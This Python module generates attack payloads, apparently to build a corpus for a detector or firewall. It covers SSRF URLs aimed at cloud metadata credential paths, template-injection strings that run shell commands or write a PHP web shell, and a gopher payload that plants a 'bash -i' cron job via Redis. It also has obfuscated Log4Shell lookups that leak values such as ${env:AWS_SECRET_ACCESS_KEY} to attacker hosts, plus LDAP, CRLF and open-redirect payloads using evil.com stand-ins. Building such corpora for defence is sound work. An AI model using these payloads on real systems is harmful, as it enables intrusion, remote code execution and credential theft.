"""Attack payloads: SSRF, SSTI, JNDI (Log4Shell), LDAP injection, CRLF, open redirect.

Each generator returns (value, evasion, forced_wire_mode_or_None).
"""

import re

from corpus_payloads_inj import OAST, ATTACKER_IPS, weighted

# Loopback and metadata addresses written every way URL parsers accept them.
LOOPBACK = {
    "none": ["127.0.0.1", "localhost", "127.0.0.1:8080", "localhost:6379", "127.0.0.1:2375", "127.0.0.1:9200", "127.0.0.1:8500"],
    "decimal_ip": ["2130706433", "2130706433:8080"],
    "hex_ip": ["0x7f000001", "0x7f.0x0.0x0.0x1", "0x7F.1"],
    "octal_ip": ["0177.0.0.1", "017700000001", "0177.0000.0000.0001", "00000177.0.0.01"],
    "short_ip": ["127.1", "127.0.1", "0", "127.1:22", "0:8080"],
    "ipv6": ["[::1]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0000::1]:80", "[::1%25eth0]"],
    "zero_address": ["0.0.0.0", "[::]", "0.0.0.0:6379"],
    "padded_ip": ["127.000.000.001", "127.0.0.01"],
    "wildcard_dns": ["127.0.0.1.nip.io", "localtest.me", "7f000001.c0a80001.rbndr.us", "spoofed.burpcollaborator.net", "customer1.app.localhost.my.company.127.0.0.1.nip.io"],
    "enclosed_alnum": ["\u2460\u2461\u2466.\u24ea.\u24ea.\u2460", "\u2474\u2475\u247a.\u24ea.\u24ea.\u2474"],
}
METADATA = {
    "none": ["169.254.169.254", "metadata.google.internal", "169.254.170.2", "100.100.100.200", "192.0.0.192", "instance-data.ec2.internal", "metadata"],
    "decimal_ip": ["2852039166"],
    "hex_ip": ["0xa9fea9fe", "0xa9.0xfe.0xa9.0xfe", "0xA9FEA9FE"],
    "octal_ip": ["0251.0376.0251.0376", "025177524776"],
    "short_ip": ["169.254.43518", "169.16689662"],
    "ipv6": ["[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "[0:0:0:0:0:ffff:a9fe:a9fe]"],
    "wildcard_dns": ["169.254.169.254.nip.io", "metadata.nicob.net", "a9fea9fe.nip.io"],
    "mixed_ip": ["0xa9.254.0251.0376", "169.0xfe.169.254"],
}
PRIVATE = ["10.0.0.1", "192.168.0.1", "192.168.1.1:8080", "172.17.0.1:2375", "10.96.0.1", "kubernetes.default.svc", "172.16.0.10:9000",
           "consul.service.consul:8500", "internal-admin.corp.local", "10.0.0.5:10250"]
META_PATHS = ["/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/meta-data/iam/security-credentials/ec2-role",
              "/latest/user-data", "/computeMetadata/v1/instance/service-accounts/default/token", "/metadata/instance?api-version=2021-02-01",
              "/v2/credentials/", "/latest/api/token", "/openstack/latest/meta_data.json", "/opc/v1/instance/", "/metadata/v1/",
              "/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json", "/latest/dynamic/instance-identity/document"]
LOCAL_PATHS = ["/", "/admin", "/server-status", "/v1.24/containers/json", "/_cat/indices", "/v1/agent/self", "/v2/keys/?recursive=true",
               "/pods", "/actuator/env", "/api/v1/namespaces/kube-system/secrets", "/manager/html", "/console", "/debug/pprof/", "/metrics"]
GOPHER = ["gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
          "gopher://localhost:25/_HELO%20x%0d%0aMAIL%20FROM%3A%3Ca%40x%3E%0d%0aRCPT%20TO%3A%3Cadmin%40shop.example%3E%0d%0aDATA%0d%0ahi%0d%0a.%0d%0a",
          "gopher://127.0.0.1:3306/_%a3%00%00%01%85%a6%ff%01%00%00%00%01%21%00%00%00",
          "gopher://127.1:11211/_stats%0d%0a", "gopher://[::1]:6379/_INFO%0d%0a", "gopher://0x7f000001:9000/_%01%01%00%01%00%08"]
ODD_SCHEMES = ["file:///etc/passwd", "file:///proc/self/environ", "file://localhost/etc/shadow", "file:///c:/windows/win.ini",
               "dict://127.0.0.1:11211/stats", "dict://localhost:6379/info", "ftp://127.0.0.1:21/", "ldap://127.0.0.1:389/%0astats%0aquit",
               "tftp://{ip}:69/x", "jar:http://{ip}/x.jar!/a.class", "netdoc:///etc/passwd", "sftp://{ip}:11111/", "file:/etc/passwd",
               "php://filter/resource=http://127.0.0.1/admin", "ssrf://127.0.0.1"]


def ssrf_value(rng):
    r = rng.random()
    if r < 0.10:
        return rng.choice(GOPHER), "gopher_scheme", "prewire" if rng.random() < 0.5 else None
    if r < 0.20:
        u = rng.choice(ODD_SCHEMES).replace("{ip}", rng.choice(ATTACKER_IPS))
        return u, u.split(":", 1)[0] + "_scheme", None
    if r < 0.28:
        host = rng.choice(PRIVATE)
        return "http://%s%s" % (host, rng.choice(LOCAL_PATHS)), "none", None
    if r < 0.62:
        enc = weighted(rng, [(k, 6 if k == "none" else 4) for k in METADATA])
        host = rng.choice(METADATA[enc])
        path = rng.choice(META_PATHS)
    else:
        enc = weighted(rng, [(k, 5 if k == "none" else 4) for k in LOOPBACK])
        host = rng.choice(LOOPBACK[enc])
        path = rng.choice(LOCAL_PATHS)
    scheme = rng.choice(["http://"] * 8 + ["https://", "HTTP://", "//"])
    url = scheme + host + path
    if rng.random() < 0.12:
        trick = rng.choice(["userinfo", "fragment", "backslash"])
        if trick == "userinfo":
            url = scheme + rng.choice(["shop.example", "cdn.shop.example", "user:pass"]) + "@" + host + path
        elif trick == "fragment":
            url = scheme + host + "#@cdn.shop.example" + path if rng.random() < 0.5 else scheme + host + path + "?.png"
        else:
            url = scheme + host + "\\@cdn.shop.example" + path
        enc = trick if enc == "none" else enc + "+" + trick
    return url, enc, None


SSTI = [
    ("{{7*7}}", "none"), ("${7*7}", "none"), ("<%= 7*7 %>", "none"), ("#{7*7}", "none"), ("{{7*'7'}}", "none"), ("${{7*7}}", "none"),
    ("*{7*7}", "none"), ("@(7*7)", "none"), ("{{config.items()}}", "none"), ("{{self.__init__.__globals__.__builtins__}}", "none"),
    ("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "none"),
    ("{{''.__class__.__mro__[1].__subclasses__()}}", "none"), ("{{''.__class__.__base__.__subclasses__()[408]('cat /etc/passwd',shell=True,stdout=-1).communicate()}}", "none"),
    ("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "none"),
    ("{{lipsum.__globals__.os.popen('id').read()}}", "none"), ("{{cycler.__init__.__globals__.os.popen('whoami').read()}}", "none"),
    ("{{joiner.__init__.__globals__.os.popen('id').read()}}", "none"), ("{{namespace.__init__.__globals__.os.popen('uname -a').read()}}", "none"),
    ("{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}", "none"),
    ("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}", "attr_filter_hex"),
    ("{{request|attr(request.args.c)|attr(request.args.g)}}", "request_args_smuggling"),
    ("{{()|attr('\\137\\137class\\137\\137')}}", "octal_escape"), ("{{\"\".__class__.__mro__[1].__subclasses__()|map(attribute='__name__')|list}}", "none"),
    ("<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }", "none"),
    ("${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "none"),
    ("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()", "none"),
    ("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "none"), ("*{T(java.lang.Runtime).getRuntime().exec('whoami')}", "none"),
    ("${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}", "none"), ("${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}", "none"),
    ("{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "none"), ("{{['id']|filter('system')}}", "none"),
    ("{{['cat /etc/passwd']|map('passthru')|join}}", "none"), ("{php}echo `id`;{/php}", "none"), ("{system('id')}", "none"),
    ("{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}", "none"),
    ("<%= system(\"id\") %>", "none"), ("<%= `ls /` %>", "none"), ("<%= File.open('/etc/passwd').read %>", "none"),
    ("${self.module.cache.util.os.system(\"id\")}", "none"), ("<%import os%>${os.popen('id').read()}", "none"),
    ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}", "none"),
    ("#{7*7}#{\"\".getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")}", "none"),
    ("${{<%[%'\"}}%\\.", "polyglot_probe"), ("{{= global.process.mainModule.require('child_process').execSync('id') }}", "none"),
    ("{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", "none"),
    ("{{ '' | attr('__class__') }}", "attr_filter"), ("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}", "none"),
    ("{{x.__init__.__builtins__.exec('import os;os.system(\"id\")')}}", "none"), ("@{Runtime.getRuntime().exec(\"id\")}", "none"),
    ("{{''.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}", "none"),
]


def ssti_value(rng):
    v, ev = rng.choice(SSTI)
    if ev == "none" and rng.random() < 0.2 and "{{" in v:
        v2 = v.replace("{{", "{{ ").replace("}}", " }}")
        if rng.random() < 0.5:
            quoted = re.sub(r"'(__\w+__)'", lambda m: "'" + m.group(1).replace("__", "\\x5f\\x5f") + "'", v2)
            v2 = quoted if quoted != v2 else v2.replace(".", " . ")
        return v2, "whitespace_padding", None
    return v, ev, None


JNDI_PROTO = ["ldap", "ldap", "ldap", "rmi", "dns", "ldaps", "iiop", "corba", "nds", "nis", "http"]
JNDI_EXFIL = ["", "", "", "${env:USER}.", "${sys:java.version}.", "${hostName}.", "${env:AWS_SECRET_ACCESS_KEY}.", "${java:os}.", "${ctx:loginId}."]


def _jndi_obf_char(c, rng, style):
    if style == "lower":
        return "${lower:%s}" % c
    if style == "upper":
        return "${upper:%s}" % c
    if style == "default":
        return "${::-%s}" % c
    if style == "env":
        return "${env:%s:-%s}" % (rng.choice(["NaN", "BARFOO", "ENV_NAME", "x"]), c)
    if style == "date":
        return "${date:'%s'}" % c
    if style == "sys":
        return "${sys:%s:-%s}" % (rng.choice(["xx", "nothing"]), c)
    if style == "k8s":
        return "${k8s:k5:-%s}" % c
    return c


def jndi_value(rng):
    proto = rng.choice(JNDI_PROTO)
    host = rng.choice(OAST).split("/")[0] if rng.random() < 0.6 else "%s:%d" % (rng.choice(ATTACKER_IPS), rng.choice([1389, 1099, 389, 53, 80, 443]))
    path = rng.choice(["/a", "/Exploit", "/o=tomcat", "/Basic/Command/Base64/d2hvYW1p", "/" + str(rng.randrange(10**6)), "/x", ""])
    exfil = rng.choice(JNDI_EXFIL) if not host[0].isdigit() else ""
    target = "%s://%s%s%s" % (proto, exfil, host, path)
    if rng.random() < 0.08:
        target = "%s://127.0.0.1#%s%s" % (proto, host, path)
    ev = weighted(rng, [("none", 30), ("lower", 8), ("upper", 5), ("default", 14), ("env", 8), ("date", 4), ("sys", 3),
                         ("k8s", 3), ("mixed", 10), ("partial", 6), ("nested", 4), ("json_unicode_dollar", 5)])
    if ev == "none":
        return "${jndi:%s}" % target, "none", None
    if ev == "partial":
        forms = ["${j${::-n}di:%s}", "${jn${lower:d}i:%s}", "${${lower:j}ndi:%s}", "${jndi:${lower:l}${lower:d}a${lower:p}%s}"]
        f = rng.choice(forms)
        if f.endswith("p%s}"):
            return f % target[len(proto):], "lookup_obfuscation", None
        return f % target, "lookup_obfuscation", None
    if ev == "nested":
        return rng.choice(["${${lower:${lower:j}}ndi:%s}", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://%s%s}" % (host, path),
                           "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//%s%s}" % (host, path)]).replace("%s", target, 1), "nested_lookup", None
    if ev == "json_unicode_dollar":
        return "${jndi:%s}" % target, "json_unicode", "json_unicode"
    styles = [ev] if ev != "mixed" else ["lower", "upper", "default", "env", "date", "sys"]
    word = "".join(_jndi_obf_char(c, rng, rng.choice(styles)) if rng.random() < 0.8 else c for c in "jndi")
    if word == "jndi":
        word = _jndi_obf_char("j", rng, styles[0]) + "ndi"
    sep = ":" if rng.random() < 0.6 else _jndi_obf_char(":", rng, rng.choice(["default", "env", "sys"]))
    p2 = "".join(_jndi_obf_char(c, rng, rng.choice(styles)) if rng.random() < 0.3 else c for c in proto)
    return "${%s%s%s%s}" % (word, sep, p2, target[len(proto):]), "lookup_obfuscation", None


LDAPI = [
    "*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "admin*)((|userPassword=*)", "*)(cn=*))\x00", "x)(|(cn=*)", "*))\x00",
    "admin)(!(&(1=0", "*()|&'", "*)(objectClass=*", "admin))(|(uid=*", "*)(userPassword=*)", "*)(|(mail=*))", "jdoe)(|(memberOf=cn=admins,ou=groups,dc=corp,dc=example)",
    "*)(&(objectClass=user)(description=*pass*)", "admin)(|(password=*))", "*)%00", "))(|(sn=*", "*(|(objectclass=*))", "x*)(|(uid=admin",
    "admin*", "*)(uid=*)(|(uid=*", "(&(uid=admin)(userPassword=*))", "*)(sAMAccountName=*))(|(sAMAccountName=*", "ad*)(|(description=*",
    "*)(telephoneNumber=*", "admin)(|(objectClass=*", "*)(|(cn=admin*)(cn=root*", "*)(!(cn=nobody)",
]


def ldapi_value(rng):
    v = rng.choice(LDAPI)
    if v == "admin*":
        v = "admin*)(|(userPassword=*"
    ev = "none"
    if "\x00" in v:
        ev = "null_byte"
    elif rng.random() < 0.15:
        v = v + "\x00"
        ev = "null_byte"
    return v, ev, None


CRLF_INJECT = ["Set-Cookie: sessionid=attacker", "Set-Cookie:admin=true", "Location: https://evil.com", "X-XSS-Protection: 0",
               "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 25\r\n\r\n<script>alert(1)</script>",
               "\r\n<svg onload=alert(1)>", "Access-Control-Allow-Origin: https://evil.com", "Refresh: 0; url=https://evil.com",
               "X-Injected: header", "Content-Type: text/html\r\n\r\n<html>owned</html>", "Link: <https://evil.com/x.css>; rel=stylesheet"]


def crlf_value(rng):
    """Returns a prewire value (the CR LF live in the encoding)."""
    inj = rng.choice(CRLF_INJECT)
    prefix = rng.choice(["", "", "en", "/account", "https://shop.example/", "x", "1"])
    style = weighted(rng, [("none", 40), ("lf_only", 12), ("unicode_crlf", 8), ("double_encode", 8), ("unicode_u", 5), ("hash_cr", 5), ("uppercase_hex", 10)])
    enc_rest = inj.replace("\r\n", "%0d%0a").replace(" ", "%20").replace("<", "%3c").replace(">", "%3e").replace(";", "%3b")
    if style == "none":
        return prefix + "%0d%0a" + enc_rest, "none", "prewire"
    if style == "uppercase_hex":
        return prefix + "%0D%0A" + enc_rest.replace("%0d%0a", "%0D%0A"), "none", "prewire"
    if style == "lf_only":
        return prefix + "%0a" + enc_rest.replace("%0d%0a", "%0a"), "lf_only", "prewire"
    if style == "unicode_crlf":
        return prefix + "%E5%98%8A%E5%98%8D" + enc_rest.replace("%0d%0a", "%E5%98%8A%E5%98%8D").replace("%20", "%E5%98%A0").replace("%3c", "%E5%98%BC"), "unicode_crlf", "prewire"
    if style == "double_encode":
        return prefix + "%250d%250a" + enc_rest.replace("%", "%25").replace("%250d%250a", "%250d%250a"), "double_encode", "prewire"
    if style == "unicode_u":
        return prefix + "%u000d%u000a" + enc_rest.replace("%0d%0a", "%u000d%u000a"), "unicode_u", "prewire"
    return prefix + "%23%0d%0a" + enc_rest, "hash_cr", "prewire"


def crlf_json(rng):
    """CR LF as JSON escapes: the application decodes them into the header it sets."""
    inj = rng.choice(CRLF_INJECT[:4] + CRLF_INJECT[6:9])
    return rng.choice(["en", "/orders", "fr-FR"]) + "\r\n" + inj, "json_escape", None


REDIRECT_DOMAINS = ["evil.com", "attacker.com", "evil.net", "phish-login.com", "google.com", "bit.ly/3xYzAbC", "malicious.site", "0xd83ad6ce"]


def redirect_value(rng):
    d = rng.choice(REDIRECT_DOMAINS)
    forms = [
        ("https://{d}/", "none"), ("https://{d}/login", "none"), ("http://{d}", "none"), ("//{d}", "protocol_relative"), ("///{d}", "protocol_relative"),
        ("////{d}/%2f..", "protocol_relative"), ("/\\{d}", "backslash"), ("\\/\\/{d}", "backslash"), ("https:/\\{d}", "backslash"),
        ("/%09/{d}", "whitespace"), ("/%2f%2f{d}", "url_encode"), ("%2f%2f{d}", "url_encode"), ("https://shop.example.{d}/", "domain_suffix"),
        ("https://shop.example@{d}/", "userinfo"), ("https://{d}/shop.example", "path_confusion"), ("https://{d}?shop.example", "path_confusion"),
        ("https://{d}%23.shop.example/", "fragment"), ("https://{d}%2f.shop.example", "url_encode"), ("//{d}%E3%80%82com", "unicode_dot"),
        ("https:{d}", "missing_slashes"), ("/%5c{d}", "backslash"), ("//%0d%0a{d}", "whitespace"), ("javascript:alert(document.domain)//", "javascript_uri"),
        ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data_uri"), ("/\\/{d}/", "backslash"), ("https://{d}\\@shop.example", "userinfo"),
        ("%68%74%74%70%73%3a%2f%2f{d}", "url_encode"), ("//{d}/%2e%2e", "protocol_relative"), ("〱{d}", "unicode_slash"), ("https://{d}:443@shop.example", "userinfo"),
    ]
    f, ev = rng.choice(forms)
    if "%E3%80%82com" in f:
        d = d.split(".")[0]
    v = f.replace("{d}", d)
    return v, ev, ("prewire" if "%" in v else None)
